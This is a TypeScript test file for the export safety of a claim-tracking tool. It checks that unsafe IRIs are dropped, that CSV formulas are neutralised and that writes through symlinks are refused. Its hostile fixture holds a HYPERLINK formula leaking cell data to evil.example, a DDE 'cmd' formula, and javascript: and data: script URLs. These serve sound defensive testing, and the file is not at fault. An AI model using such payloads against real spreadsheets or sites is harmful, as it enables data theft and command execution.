import { readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkedIriBase, type DroppedIri, exportableIri } from '../../src/interop/export-iri.js';
import { toClaimReviewJsonLd } from '../../src/interop/to-claimreview.js';
import { toProvJsonLd } from '../../src/interop/to-prov.js';
import { toWebAnnotations } from '../../src/interop/to-web-annotations.js';
import { InvalidOptionError } from '../../src/model/claimtrail-error.js';
import { run, useCleanCliState } from '../cli/run.js';
import { tempCorpus } from '../helpers/temp-corpus.js';
import { corpusOf } from './helpers/corpus.js';
import { parseCsv } from './helpers/csv.js';

useCleanCliState();

const HOSTILE = {
  actors: [
    { id: 'eve', name: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', kind: 'person' },
    { id: 'outlet', name: '@SUM(1+1)', kind: 'media', url: 'javascript:alert(1)' },
  ],
  sources: [
    { id: 's1', kind: 'article', title: "=cmd|' /C calc'!A0", publisher: 'outlet', url: 'javascript:alert(1)' },
    { id: 's2', kind: 'article', title: '+1', url: 'HTTPS://Example.ORG/a b"<c>' },
    { id: 's3', kind: 'article', title: '-1', url: 'data:text/html,<script>alert(1)</script>' },
  ],
  claims: [
    {
      id: 'c1',
      text: '-2+3',
      subject: 'eve',
      predicate: 'proposes',
      object: { type: 'text', value: 'a summit' },
    },
  ],
  attributions: ['s1', 's2', 's3'].map((source, i) => ({
    id: `a${i}`,
    claim: 'c1',
    source,
    speaker: 'eve',
    mode: 'direct-quote',
    quotes: [{ text: '\t=1+1' }],
  })),
};

/** Every IRI-valued string in a JSON-LD document: `@id`s, `id`s, `url`s and `source`s. */
function iris(value: unknown, out: string[] = []): string[] {
  if (Array.isArray(value)) for (const v of value) iris(v, out);
  else if (value && typeof value === 'object') {
    for (const [key, v] of Object.entries(value)) {
      if (['@id', 'id', 'url', 'source'].includes(key) && typeof v === 'string') out.push(v);
      else iris(v, out);
    }
  }
  return out;
}

describe('JSON-LD exports write only http, https and urn IRIs, normalised', () => {
  it('exportableIri accepts http(s) and urn, normalises URLs, refuses other schemes', () => {
    expect(exportableIri('HTTPS://Example.ORG/a b"<c>')).toEqual({
      ok: true,
      iri: 'https://example.org/a%20b%22%3Cc%3E',
    });
    expect(exportableIri('urn:claimtrail:actor:eve')).toEqual({ ok: true, iri: 'urn:claimtrail:actor:eve' });
    for (const bad of [
      'javascript:alert(1)',
      'data:text/html,x',
      'file:///etc/passwd',
      'urn:x:"quoted"',
      'not a url',
    ]) {
      expect(exportableIri(bad).ok, bad).toBe(false);
    }
    expect(() => checkedIriBase('javascript:alert(1)//')).toThrow(InvalidOptionError);
    expect(checkedIriBase('https://example.org/corpus/')).toBe('https://example.org/corpus/');
  });

  it('drops javascript: and data: links from all three exports and says so', async () => {
    const corpus = await corpusOf(HOSTILE);
    expect(corpus.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    for (const exporter of [toClaimReviewJsonLd, toProvJsonLd, toWebAnnotations]) {
      const dropped: DroppedIri[] = [];
      const doc = exporter(corpus, { onDroppedIri: (d) => dropped.push(d) });
      const all = iris(doc);
      for (const iri of all) expect(iri, exporter.name).toMatch(/^(https?:\/\/[^\s"<>]+|urn:[^\s"<>]+)$/);
      expect(JSON.stringify(doc)).not.toContain('javascript:');
      expect(JSON.stringify(doc)).not.toContain('data:text');
      expect(all).toContain('https://example.org/a%20b%22%3Cc%3E');
      expect(dropped.map((d) => d.path.join('/'))).toEqual(expect.arrayContaining(['source/s1/url', 'source/s3/url']));
    }
  });

  it('the CLI warns about each link it left out and refuses an unsafe --base', async () => {
    const dir = tempCorpus({});
    writeFileSync(join(dir, 'corpus.json'), JSON.stringify(HOSTILE));
    const exported = await run('export', dir, '--format', 'prov');
    expect(exported.code).toBe(0);
    expect(exported.stderr).toContain('the url of source "s1" was left out of the export: "javascript:alert(1)"');
    const bad = await run('export', dir, '--format', 'prov', '--base', 'javascript:alert(1)//');
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--base');
  });
});

describe('CSV export neutralises formulas', () => {
  it('no cell read back starts a formula; --keep-formulas writes them as they are', async () => {
    const dir = tempCorpus({});
    writeFileSync(join(dir, 'corpus.json'), JSON.stringify(HOSTILE));
    const safe = await run('export', dir, '--format', 'csv');
    const rows = parseCsv(safe.stdout);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.flat()).toContain(`'${HOSTILE.actors[0]?.name}`);
    const raw = await run('export', dir, '--format', 'csv', '--keep-formulas');
    expect(parseCsv(raw.stdout).flat()).toContain(HOSTILE.actors[0]?.name);
  });
});

describe('export --out does not write through links', () => {
  it('refuses a symbolic link at --out unless --follow-links', async () => {
    const dir = tempCorpus({ 'target/.bashrc': 'echo hello\n' });
    const link = join(dir, 'out.csv');
    symlinkSync(join(dir, 'target/.bashrc'), link);
    const refused = await run('export', '--format', 'csv', '--out', link);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('symbolic link');
    expect(readFileSync(join(dir, 'target/.bashrc'), 'utf8')).toBe('echo hello\n');
    const followed = await run('export', '--format', 'csv', '--out', link, '--follow-links');
    expect(followed.code).toBe(0);
    expect(readFileSync(join(dir, 'target/.bashrc'), 'utf8')).toMatch(/^attributionId,/);
  });
});
